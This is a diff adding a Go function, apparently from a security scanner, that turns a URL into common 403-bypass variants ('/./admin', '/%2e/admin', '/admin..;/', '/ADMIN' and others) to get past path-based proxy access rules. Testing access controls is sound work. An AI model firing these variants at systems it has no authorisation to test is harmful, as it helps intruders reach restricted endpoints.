@@ -0,0 +1,54 @@
+package main
+
+import (
+	"iter"
+	"strings"
+)
+
+// bypassForms rewrite the last path segment into the forms that slip past
+// access rules matching the literal path, e.g. a proxy denying "/admin" while
+// the app behind it normalises "/./admin" back to it. dir is the path up to
+// and including the slash before the segment.
+var bypassForms = []func(dir, segment string) string{
+	func(dir, segment string) string { return dir + "./" + segment },           // /./admin
+	func(dir, segment string) string { return dir + "/" + segment },            // //admin
+	func(dir, segment string) string { return dir + "%2e/" + segment },         // /%2e/admin
+	func(dir, segment string) string { return dir + segment + "..;/" },         // /admin..;/
+	func(dir, segment string) string { return dir + segment + ";/" },           // /admin;/
+	func(dir, segment string) string { return dir + strings.ToUpper(segment) }, // /ADMIN
+	func(dir, segment string) string { return dir + segment + "%20" },          // /admin%20
+	func(dir, segment string) string { return dir + segment + ".json" },        // /admin.json
+}
+
+// bypassVariations is the "bypass" strategy: the URL itself, then the usual
+// 403-bypass forms of the last segment of its parsed path, keeping the query.
+// URLs at the root have nothing to rewrite and yield only themselves.
+func bypassVariations(rawURL string) iter.Seq[string] {
+	return func(yield func(string) bool) {
+		if !yield(rawURL) {
+			return
+		}
+		parts, ok := parseURLParts(rawURL)
+		if !ok {
+			return
+		}
+		segments := pathSegments(parts.path)
+		if len(segments) == 0 {
+			return
+		}
+		segment := segments[len(segments)-1]
+		dir := joinSegments(segments[:len(segments)-1], true)
+
+		seen := map[string]bool{rawURL: true} // e.g. /ADMIN when the segment has no letters
+		for _, form := range bypassForms {
+			variation := parts.withPath(form(dir, segment))
+			if seen[variation] {
+				continue
+			}
+			seen[variation] = true
+			if !yield(variation) {
+				return
+			}
+		}
+	}
+}